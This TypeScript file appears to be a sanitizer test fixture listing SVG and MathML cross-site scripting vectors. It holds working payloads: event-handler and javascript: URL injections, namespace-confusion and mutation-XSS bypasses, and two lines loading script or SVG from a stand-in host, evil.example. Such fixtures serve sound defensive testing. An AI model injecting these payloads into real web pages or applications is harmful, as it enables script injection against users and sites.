import { vectorLines } from './vector-lines.ts'

/** SVG and MathML elements, which have parsing rules of their own. */
export const foreignVectors: string[] = vectorLines(`
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><script xlink:href="data:,alert(1)"/></svg>
<svg><script href="https://evil.example/x.js"></script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>*{background:url(javascript:alert(1))}</style></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a href="javascript:alert(1)"><circle r=9 /></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>
<svg><a><set attributeName=href to="javascript:alert(1)"/><text>x</text></a></svg>
<svg><animateTransform onbegin=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/></svg>
<svg><use xlink:href="https://evil.example/x.svg#x"/></svg>
<svg><image href="javascript:alert(1)"/></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><foreignObject><script>alert(1)</script></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><title><script>alert(1)</script></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>"></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><!--<p>--><img src=x onerror=alert(1)></svg>
<svg><filter><feImage href="javascript:alert(1)"/></filter></svg>
<svg><discard onbegin=alert(1)></svg>
<svg><noscript><p title="</noscript><img src=x onerror=alert(1)>"></svg>
<svg><xmp><p id="</xmp><img src=x onerror=alert(1)>"></svg>
<svg><textarea><img src=x onerror=alert(1)></textarea></svg>
<svg><iframe><img src=x onerror=alert(1)></iframe></svg>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><semantics><mrow onclick=alert(1)>x</mrow></semantics></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
`)
